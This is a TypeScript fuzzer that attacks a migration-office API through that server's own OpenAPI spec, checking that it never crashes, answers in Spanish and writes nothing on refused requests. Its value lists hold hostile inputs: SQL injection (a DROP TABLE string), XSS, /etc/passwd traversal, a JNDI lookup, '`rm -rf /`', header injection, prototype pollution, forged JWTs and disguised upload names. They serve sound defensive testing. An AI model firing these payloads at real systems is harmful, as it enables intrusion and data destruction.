/**
 * A seeded fuzzer over the server's own /openapi.json: every operation gets valid, boundary and hostile values (injection
 * strings, wrong types, huge and deeply nested bodies, unicode edge cases, content encodings, traversal names, spoofed
 * and oversized uploads). Each answer is checked: never a 5xx or a hang, every error in the shared shape with a stable
 * code and a Spanish message, and a refused request writes nothing (database and uploads folder, see Vigia).
 * Used by test/hostil/fuzz.test.ts (short run) and bench/fuzz.ts (`npm run fuzz -- --n 50000 --seed S`).
 */
import { gzipSync } from 'node:zlib';
import { v7 as uuidv7 } from 'uuid';
import { CODIGOS_ERROR } from '#shared/codigos-error';
import { ROLES } from '#shared/roles';
import { COMANDOS, NOMBRES_COMANDO } from '#shared/sync/protocolo';
import { z } from 'zod';
import { prng, type Prng } from '../../server/src/demo/generador.js';
import { ejecutableDisfrazado, pdfReal } from '../helpers/datos.js';
import { OFICINA_AJENA, OFICINA_PROPIA, type Escenario, type IdsDeOficina } from './escenario.js';

/** The JSON-schema subset zod-to-openapi and z.toJSONSchema emit. */
interface Esquema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  properties?: Record<string, Esquema>;
  required?: string[];
  items?: Esquema;
  minItems?: number;
  maxItems?: number;
  anyOf?: Esquema[];
  oneOf?: Esquema[];
  allOf?: Esquema[];
  nullable?: boolean;
  additionalProperties?: boolean | Esquema;
}

interface Parametro {
  name: string;
  in: 'path' | 'query';
  schema: Esquema;
}

export interface Operacion {
  metodo: string;
  ruta: string;
  publica: boolean;
  parametros: Parametro[];
  cuerpo?: { tipo: 'json' | 'multipart'; esquema: Esquema };
}

interface DocOpenApi {
  paths: Record<
    string,
    Record<
      string,
      {
        security?: unknown[];
        parameters?: Parametro[];
        requestBody?: { content: Record<string, { schema: Esquema }> };
      }
    >
  >;
}

export function operacionesDe(doc: DocOpenApi): Operacion[] {
  return Object.entries(doc.paths).flatMap(([ruta, ops]) =>
    Object.entries(ops).map(([metodo, op]) => {
      const contenido = op.requestBody?.content ?? {};
      const multipart = contenido['multipart/form-data'];
      const json = contenido['application/json'];
      return {
        metodo: metodo.toUpperCase(),
        ruta,
        publica: !op.security?.length,
        parametros: op.parameters ?? [],
        cuerpo: multipart
          ? { tipo: 'multipart' as const, esquema: multipart.schema }
          : json
            ? { tipo: 'json' as const, esquema: json.schema }
            : undefined,
      };
    }),
  );
}

// ---------------------------------------------------------------------------------------------------------------------
// Values

const anidado = (niveles: number): unknown => {
  let v: unknown = 1;
  for (let i = 0; i < niveles; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

const TEXTOS_HOSTILES = [
  "' OR '1'='1",
  "1'; DROP TABLE ppsh_solicitudes; --",
  '" OR ""="',
  "admin'--",
  '%',
  '_%_',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\u200b',
  '\u200b\u200c\u200d',
  '\u202eexe.pdf',
  '\ufeff',
  '\ud800',
  'x\udfffy',
  '😀🇵🇦',
  '𝕬𝖇𝖈',
  'e\u0301'.repeat(300),
  'İıſ',
  '\r\nX-Inyectada: 1',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-0',
  '1e309',
  '',
  ' ',
  '\t\n',
  '9'.repeat(400),
  'ñ'.repeat(5000),
  'A'.repeat(70_000),
  '2026-02-30',
  '0000-00-00',
  '9999-12-31T23:59:59.999Z',
  '٠١٢٣',
  'SELECT * FROM usuarios',
  '*/ union select password_hash from usuarios /*',
  '\\',
  '"',
  '`rm -rf /`',
] as const;

const VALORES_HOSTILES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 31,
  2 ** 53 + 2,
  -1e308,
  [],
  {},
  [[[]]],
  JSON.parse('{"__proto__":{"admin":true,"rol":"ADMIN"}}'),
  { constructor: { prototype: { admin: true } } },
  anidado(40),
  Array.from({ length: 3000 }, (_, i) => i),
  Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, i])),
];

/** Strings that satisfy the patterns our schemas use (cédula, codes, hex); the first that matches is used. */
const CANDIDATOS_PATRON = [
  '02',
  '04',
  'VEN',
  'PAN',
  'M',
  'F',
  '8-123-4567',
  'PE-12-345',
  '12:30',
  '2026-05-04',
  '0'.repeat(64),
  'a'.repeat(64),
  'ABC',
  'abc',
  'A1',
  '1',
];

/** Every byte percent-encoded (encodeURIComponent throws on a lone surrogate; UTF-8 turns it into U+FFFD). */
const porCiento = (t: string) => [...Buffer.from(t)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

export class Generador {
  constructor(
    readonly r: Prng,
    private readonly ids: IdsDeOficina[],
  ) {}

  private de<T>(xs: readonly T[]): T {
    return this.r.elegir(xs);
  }

  idExistente(tipo: keyof IdsDeOficina): string {
    const pool = this.de(this.ids)[tipo];
    return pool.length ? this.de(pool) : uuidv7();
  }

  private uuid(): string {
    const tipos: (keyof IdsDeOficina)[] = [
      'solicitudes',
      'solicitantes',
      'documentos',
      'entrevistas',
      'instancias',
      'usuarios',
    ];
    return this.r.probabilidad(0.7) ? this.idExistente(this.de(tipos)) : uuidv7();
  }

  private fecha(): string {
    const hoy = new Date();
    hoy.setUTCDate(hoy.getUTCDate() + this.r.entero(-20_000, 60));
    return hoy.toISOString().slice(0, 10);
  }

  private texto(e: Esquema, hostil: boolean): string {
    if (hostil) {
      const t = this.de(TEXTOS_HOSTILES);
      if (this.r.probabilidad(0.2) && e.maxLength !== undefined) return 'x'.repeat(e.maxLength + 1);
      return t;
    }
    if (e.format === 'uuid') return this.uuid();
    if (e.format === 'date') return this.fecha();
    if (e.format === 'date-time') return new Date(Date.now() + this.r.entero(-1e10, 1e10)).toISOString();
    if (e.format === 'email') return `funcionario${this.r.entero(1, 99)}@migracion.gob.pa`;
    if (e.pattern) {
      let re: RegExp | undefined;
      try {
        re = new RegExp(e.pattern);
      } catch {
        re = undefined;
      }
      const candidato = CANDIDATOS_PATRON.find((c) => re?.test(c));
      if (candidato) return candidato;
    }
    const min = e.minLength ?? 0;
    const max = Math.min(e.maxLength ?? 40, 200);
    const largo = this.r.probabilidad(0.2) ? this.de([min, max]) : this.r.entero(min, Math.max(min, Math.min(max, 30)));
    const letras = 'abcdefghijklmnñopqrstuvwxyzáéíóú ABCDEFGHIJKLMNÑOPQRSTUVWXYZ0123456789-.';
    return Array.from({ length: largo }, () => letras[this.r.entero(0, letras.length - 1)]).join('') || 'x';
  }

  private numero(e: Esquema, entero: boolean, hostil: boolean): unknown {
    if (hostil) return this.de([-1, 0, 1.5, 2 ** 53 + 2, -1e308, 1e308, '12', (e.maximum ?? 1e6) + 1]);
    const min = e.minimum ?? 0;
    const max = Math.min(e.maximum ?? 1000, 1e9);
    const v = this.r.probabilidad(0.2) ? this.de([min, max]) : min + this.r.siguiente() * (max - min);
    return entero ? Math.max(Math.ceil(min), Math.min(Math.floor(max), Math.round(v))) || Math.ceil(min) || 1 : v;
  }

  /** A value for a schema; `hostilidad` is the chance that any one field is replaced by a hostile value. */
  valor(e: Esquema | undefined, hostilidad: number, profundidad = 0): unknown {
    if (!e || profundidad > 12) return this.de(VALORES_HOSTILES);
    if (this.r.probabilidad(hostilidad))
      return this.r.probabilidad(0.5) ? this.de(VALORES_HOSTILES) : this.de(TEXTOS_HOSTILES);
    const alternativas = e.anyOf ?? e.oneOf;
    if (alternativas?.length) return this.valor(this.de(alternativas), hostilidad, profundidad + 1);
    if (e.allOf?.length) return this.valor(Object.assign({}, ...e.allOf) as Esquema, hostilidad, profundidad + 1);
    if (e.const !== undefined) return e.const;
    if (e.enum?.length) return this.de(e.enum);
    const tipo = Array.isArray(e.type) ? this.de(e.type) : e.type;
    switch (tipo) {
      case 'string':
        return this.texto(e, false);
      case 'integer':
        return this.numero(e, true, false);
      case 'number':
        return this.numero(e, false, false);
      case 'boolean':
        return this.r.probabilidad(0.5);
      case 'null':
        return null;
      case 'array': {
        const n = this.r.entero(e.minItems ?? 0, Math.min(e.maxItems ?? 3, 3));
        return Array.from({ length: n }, () => this.valor(e.items, hostilidad, profundidad + 1));
      }
      case 'object':
      default: {
        const props = e.properties ?? {};
        const requeridos = new Set(e.required ?? []);
        const objeto: Record<string, unknown> = {};
        for (const [k, sub] of Object.entries(props)) {
          if (requeridos.has(k) ? this.r.probabilidad(hostilidad / 2) : this.r.probabilidad(0.5)) continue;
          objeto[k] = this.valor(sub, hostilidad, profundidad + 1);
        }
        if (this.r.probabilidad(hostilidad)) objeto[this.de(['extra', '__proto__', 'id', 'version', 'rol'])] = 1;
        return objeto;
      }
    }
  }

  /** A path parameter: an id of either office, a random one, or a hostile segment (already percent-encoded). */
  parametroDeRuta(nombre: string): string {
    const x = this.r.siguiente();
    if (x < 0.55)
      return nombre === 'sha256'
        ? this.idExistente('sha256')
        : this.idExistente(this.de(['solicitudes', 'documentos', 'entrevistas', 'instancias', 'solicitantes']));
    if (x < 0.65) return nombre === 'sha256' ? 'f'.repeat(64) : uuidv7();
    return this.de([
      '%C0%AE',
      '%C0%AE%C0%AE%2F%C0%AE%C0%AE%2Fetc%2Fpasswd',
      '..%2F..%2F..%2Fetc%2Fpasswd',
      '%2e%2e',
      '%00',
      'a%00b',
      '%',
      '%zz',
      '%E2%80%AE',
      '%F0%9F%98%80',
      '%uD800',
      porCiento("1' OR '1'='1"),
      'x'.repeat(65),
      'x'.repeat(5000),
      '..',
      '-1',
      '0',
      porCiento(this.de(TEXTOS_HOSTILES).slice(0, 200)),
    ]);
  }
}

// ---------------------------------------------------------------------------------------------------------------------
// Requests

export interface Peticion {
  metodo: string;
  url: string;
  headers: Record<string, string>;
  cuerpo?: string | Uint8Array | FormData;
  /** What the request is, for the report (no bodies: they can be megabytes). */
  etiqueta: string;
  operacion: string;
}

/** Files an officer (or an attacker) might upload, by name and bytes. */
export async function archivosDePrueba(maxBytes: number) {
  const pdf = await pdfReal('Documento de prueba hostil');
  const zipConWord = Buffer.concat([
    Buffer.from([0x50, 0x4b, 0x03, 0x04]),
    Buffer.from('word/document.xml' + 'x'.repeat(64)),
  ]);
  const bytes: Buffer[] = [
    pdf,
    ejecutableDisfrazado(),
    zipConWord,
    Buffer.alloc(0),
    Buffer.from('%PDF-1.7\n' + 'x'.repeat(100)),
    Buffer.alloc(maxBytes + 1, 0x25),
  ];
  const nombres = [
    'pasaporte.pdf',
    '../../../../tmp/evil.pdf',
    '..\\..\\evil.pdf',
    'a\u0000.pdf',
    'informe.pdf\u0000.exe',
    '\u202efdp.exe',
    'ñandú 😀.pdf',
    'x'.repeat(300) + '.pdf',
    '.pdf',
    'sin-extension',
    'foto.jpg',
    'carta.docx',
    'CON.pdf',
    ' .pdf',
  ];
  return { bytes, nombres };
}

const TIPOS_CONTENIDO = [
  'text/plain',
  'application/json; charset=utf-16',
  'application/json; charset=klingon',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/json; charset=latin1',
];

export class Fuzzer {
  private readonly operaciones: Operacion[];

  constructor(
    private readonly esc: Escenario,
    doc: DocOpenApi,
    private readonly g: Generador,
    private readonly archivos: Awaited<ReturnType<typeof archivosDePrueba>>,
  ) {
    this.operaciones = operacionesDe(doc);
  }

  get r() {
    return this.g.r;
  }

  private autorizacion(op: Operacion): Record<string, string> {
    const x = this.r.siguiente();
    // A valid logout revokes the session the rest of the run uses: it only ever gets no or a broken token.
    if (op.ruta.endsWith('/auth/logout') || x < 0.04) return {};
    const token = this.esc.token(this.r.elegir(ROLES), this.r.probabilidad(0.8) ? OFICINA_PROPIA : OFICINA_AJENA);
    if (x < 0.07) return { authorization: `Bearer ${token.slice(0, -3)}abc` };
    if (x < 0.09) return { authorization: `Bearer ${token} extra` };
    if (x < 0.1) return { authorization: `Basic ${Buffer.from('admin:demo2026').toString('base64')}` };
    if (x < 0.11) return { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.' };
    return { authorization: `Bearer ${token}` };
  }

  private ruta(op: Operacion): string {
    let ruta = op.ruta;
    for (const p of op.parametros.filter((x) => x.in === 'path'))
      ruta = ruta.replace(`{${p.name}}`, this.g.parametroDeRuta(p.name));
    const query = new URLSearchParams();
    const hostilidad = this.r.probabilidad(0.5) ? 0 : 0.3;
    for (const p of op.parametros.filter((x) => x.in === 'query')) {
      if (this.r.probabilidad(0.5)) continue;
      const v = this.g.valor(p.schema, hostilidad);
      query.append(p.name, typeof v === 'string' ? v : JSON.stringify(v));
      if (this.r.probabilidad(0.05)) query.append(p.name, 'repetido');
    }
    if (this.r.probabilidad(0.05)) query.append(this.r.elegir(['desconocido', '__proto__', 'a[b][c]']), '1');
    const q = query.toString();
    return q ? `${ruta}?${q}` : ruta;
  }

  private cuerpoJson(op: Operacion): { cuerpo: string | Uint8Array; headers: Record<string, string> } {
    const hostilidad = this.r.elegir([0, 0, 0.05, 0.2, 0.5]);
    let valor = this.g.valor(op.cuerpo?.esquema, hostilidad);
    if (
      op.ruta.endsWith('/sync/push') &&
      valor &&
      typeof valor === 'object' &&
      Array.isArray((valor as { comandos?: unknown }).comandos)
    )
      valor = { ...valor, comandos: this.comandos(hostilidad) };
    let texto = JSON.stringify(valor) ?? 'null';
    const x = this.r.siguiente();
    if (x < 0.03) texto = texto.slice(0, Math.max(1, texto.length >> 1));
    else if (x < 0.05) texto = `\ufeff${texto}`;
    else if (x < 0.07) texto = '{"a":1,}';
    else if (x < 0.09) {
      // Built as text: JSON.stringify itself overflows the stack past ~10,000 levels.
      const n = this.r.elegir([70, 5000, 100_000]);
      texto = `${'{"a":['.repeat(n)}1${']}'.repeat(n)}`;
    } else if (x < 0.1) texto = JSON.stringify({ relleno: 'x'.repeat(1_100_000) });
    else if (x < 0.11) texto = '{"a":NaN}';
    const headers: Record<string, string> = {
      'content-type': this.r.probabilidad(0.08) ? this.r.elegir(TIPOS_CONTENIDO) : 'application/json',
    };
    const y = this.r.siguiente();
    if (y < 0.03) return { cuerpo: gzipSync(texto), headers: { ...headers, 'content-encoding': 'gzip' } };
    if (y < 0.05)
      return {
        cuerpo: texto,
        headers: {
          ...headers,
          'content-encoding': this.r.elegir(['gzip', 'deflate', 'br', 'x-klingon', 'gzip, gzip']),
        },
      };
    return { cuerpo: texto, headers };
  }

  /** A push batch built from the sync command list: each command's args from its own schema, valid or not. */
  private comandos(hostilidad: number): unknown[] {
    return Array.from({ length: this.r.entero(1, 4) }, () => {
      const name = this.r.probabilidad(0.95) ? this.r.elegir(NOMBRES_COMANDO) : this.r.elegir(TEXTOS_HOSTILES);
      const esquema =
        name in COMANDOS
          ? (z.toJSONSchema(COMANDOS[name as keyof typeof COMANDOS], {
              unrepresentable: 'any',
              io: 'input',
            }) as Esquema)
          : undefined;
      return {
        mutationId: this.r.probabilidad(0.95) ? uuidv7() : this.r.elegir(TEXTOS_HOSTILES),
        clientId: 'escritorio-fuzz',
        name,
        args: this.g.valor(esquema, hostilidad),
        ...(this.r.probabilidad(0.3) ? { baseVersion: this.r.elegir([1, 2, 99, 0, -1]) } : {}),
      };
    });
  }

  private multipart(op: Operacion): { cuerpo: string | FormData; headers: Record<string, string> } {
    if (this.r.probabilidad(0.1)) {
      const roto = this.r.elegir([
        '--zzz\r\nContent-Disposition: form-data; name="archivo"; filename="a.pdf"\r\n\r\n%PDF-1.4',
        '--zzz\r\nContent-Disposition: form-data; name="archivo"; filename="a\u0000.pdf"\r\n\r\n%PDF\r\n--zzz--\r\n',
        '--zzz\r\nMalo\r\n\r\n--zzz--',
        'nada',
      ]);
      return {
        cuerpo: roto,
        headers: { 'content-type': this.r.elegir(['multipart/form-data; boundary=zzz', 'multipart/form-data']) },
      };
    }
    const f = new FormData();
    const campos = this.g.valor(op.cuerpo?.esquema, this.r.elegir([0, 0.1, 0.3]));
    if (campos && typeof campos === 'object')
      for (const [k, v] of Object.entries(campos)) f.append(k, typeof v === 'string' ? v : JSON.stringify(v));
    if (this.r.probabilidad(0.9)) {
      const bytes = this.r.elegir(this.archivos.bytes);
      f.append(
        this.r.probabilidad(0.95) ? 'archivo' : 'otro',
        new Blob([new Uint8Array(bytes)]),
        this.r.elegir(this.archivos.nombres),
      );
    }
    if (this.r.probabilidad(0.05))
      f.append('archivo', new Blob([new Uint8Array(this.archivos.bytes[0]!)]), 'segundo.pdf');
    return { cuerpo: f, headers: {} };
  }

  private bytes(): { cuerpo: Uint8Array; headers: Record<string, string> } {
    const bytes = this.r.elegir(this.archivos.bytes);
    const headers: Record<string, string> = {
      'content-type': this.r.elegir(['application/octet-stream', 'application/pdf', 'application/json']),
    };
    if (this.r.probabilidad(0.3))
      headers['content-range'] = this.r.elegir([
        `bytes 0-${bytes.length - 1}/${bytes.length}`,
        'bytes 5-2/10',
        'bytes 0-10/5',
        'bytes */*',
        'bytes -1-3/4',
        `bytes 0-0/${2 ** 60}`,
        'basura',
      ]);
    return { cuerpo: new Uint8Array(bytes), headers };
  }

  siguiente(): Peticion {
    const op = this.r.elegir(this.operaciones);
    const headers: Record<string, string> = { ...this.autorizacion(op) };
    if (this.r.probabilidad(0.03))
      headers['x-forwarded-for'] = this.r.elegir(['1.2.3.4', '127.0.0.1, 10.0.0.1', 'basura']);
    if (this.r.probabilidad(0.03)) headers['x-request-id'] = this.r.elegir(['<script>', 'x'.repeat(500), 'válido-1']);
    let cuerpo: Peticion['cuerpo'];
    const conCuerpo = op.cuerpo ?? (op.metodo === 'PUT' ? { tipo: 'bytes' as const } : undefined);
    const hecho =
      conCuerpo?.tipo === 'json'
        ? this.cuerpoJson(op)
        : conCuerpo?.tipo === 'multipart'
          ? this.multipart(op)
          : conCuerpo?.tipo === 'bytes'
            ? this.bytes()
            : undefined;
    if (hecho) {
      cuerpo = hecho.cuerpo;
      Object.assign(headers, hecho.headers);
    }
    const ruta = this.ruta(op);
    return {
      metodo: op.metodo,
      url: `${this.esc.s.url}${ruta}`,
      headers,
      cuerpo,
      etiqueta: `${op.metodo} ${ruta.slice(0, 300)}`,
      operacion: `${op.metodo} ${op.ruta}`,
    };
  }
}

// ---------------------------------------------------------------------------------------------------------------------
// Checking answers

/** Library and engine phrases that must never reach an officer (an English message means an error escaped translation). */
const INGLES =
  /\b(invalid|expected|required|unexpected|failed|cannot|received|undefined|must be|is not|not found|too (big|small|long|short)|stack|at \w+ \()/i;

export function problemasDeRespuesta(status: number, texto: string): string[] {
  const problemas: string[] = [];
  if (status >= 500) problemas.push(`respuesta ${status}`);
  if (status < 400) return problemas;
  let cuerpo: { error?: { code?: unknown; message?: unknown; requestId?: unknown } } | undefined;
  try {
    cuerpo = JSON.parse(texto);
  } catch {
    return [...problemas, `error ${status} sin cuerpo JSON: ${texto.slice(0, 120)}`];
  }
  const e = cuerpo?.error;
  if (!e || typeof e !== 'object') return [...problemas, `error ${status} fuera de la forma compartida`];
  if (!CODIGOS_ERROR.includes(e.code as (typeof CODIGOS_ERROR)[number]))
    problemas.push(`código desconocido ${String(e.code)}`);
  if (typeof e.requestId !== 'string' || !e.requestId) problemas.push('error sin requestId');
  if (typeof e.message !== 'string' || !e.message.trim()) problemas.push('error sin mensaje');
  else {
    // The path a 404 repeats is the caller's text, not ours.
    const propio = e.message.replace(/^Ruta no encontrada: .*/s, 'Ruta no encontrada');
    if (INGLES.test(propio)) problemas.push(`mensaje no está en español: ${e.message.slice(0, 160)}`);
  }
  return problemas;
}

export interface Hallazgo {
  peticion: string;
  status: number;
  problemas: string[];
  respuesta: string;
}

export interface Informe {
  peticiones: number;
  porEstado: Record<number, number>;
  hallazgos: Hallazgo[];
  milisegundos: number;
  /** Milliseconds per operation (method and OpenAPI path), summed: where a run spends its time. */
  tiempoPorOperacion: Record<string, number>;
}

/** Login, refresh and logout write on refusal by design (failed-attempt counter, revocation): not held to "nothing written". */
const ESCRIBE_AL_RECHAZAR = /\/auth\//;

export async function ejecutarFuzz(
  esc: Escenario,
  o: {
    n: number;
    semilla: number;
    alAvanzar?: (hechas: number) => void;
    /** Stop early after this many ms (a starved machine): the requests sent are a prefix of the seeded sequence. */
    limiteMs?: number;
  },
): Promise<Informe> {
  const doc = (await (await fetch(`${esc.s.url}/openapi.json`)).json()) as DocOpenApi;
  const g = new Generador(prng(o.semilla), [esc.ids[OFICINA_PROPIA], esc.ids[OFICINA_AJENA]]);
  const fuzzer = new Fuzzer(esc, doc, g, await archivosDePrueba(esc.s.config.uploads.maxBytes));
  const informe: Informe = { peticiones: 0, porEstado: {}, hallazgos: [], milisegundos: 0, tiempoPorOperacion: {} };
  const inicio = performance.now();
  esc.vigia.marcar();
  for (let i = 0; i < o.n && performance.now() - inicio < (o.limiteMs ?? Infinity); i++) {
    const p = fuzzer.siguiente();
    const t0 = performance.now();
    let status = 0;
    let texto = '';
    try {
      const r = await fetch(p.url, {
        method: p.metodo,
        headers: p.headers,
        body: p.cuerpo,
        signal: AbortSignal.timeout(15_000),
      });
      status = r.status;
      texto = await r.text();
    } catch (e) {
      texto = `sin respuesta: ${e instanceof Error ? `${e.name} ${e.message} ${String(e.cause ?? '')}` : String(e)}`;
    }
    const problemas = status ? problemasDeRespuesta(status, texto) : [texto];
    if (status >= 400 && !ESCRIBE_AL_RECHAZAR.test(p.url)) {
      const cambios = esc.vigia.cambios();
      if (cambios.length) problemas.push(`una petición rechazada (${status}) cambió ${cambios.join(' y ')}`);
    } else esc.vigia.marcar();
    informe.tiempoPorOperacion[p.operacion] = (informe.tiempoPorOperacion[p.operacion] ?? 0) + performance.now() - t0;
    informe.peticiones++;
    informe.porEstado[status] = (informe.porEstado[status] ?? 0) + 1;
    if (problemas.length)
      informe.hallazgos.push({ peticion: p.etiqueta, status, problemas, respuesta: texto.slice(0, 300) });
    if (o.alAvanzar && i % 1000 === 999) o.alAvanzar(i + 1);
  }
  informe.milisegundos = Math.round(performance.now() - inicio);
  return informe;
}
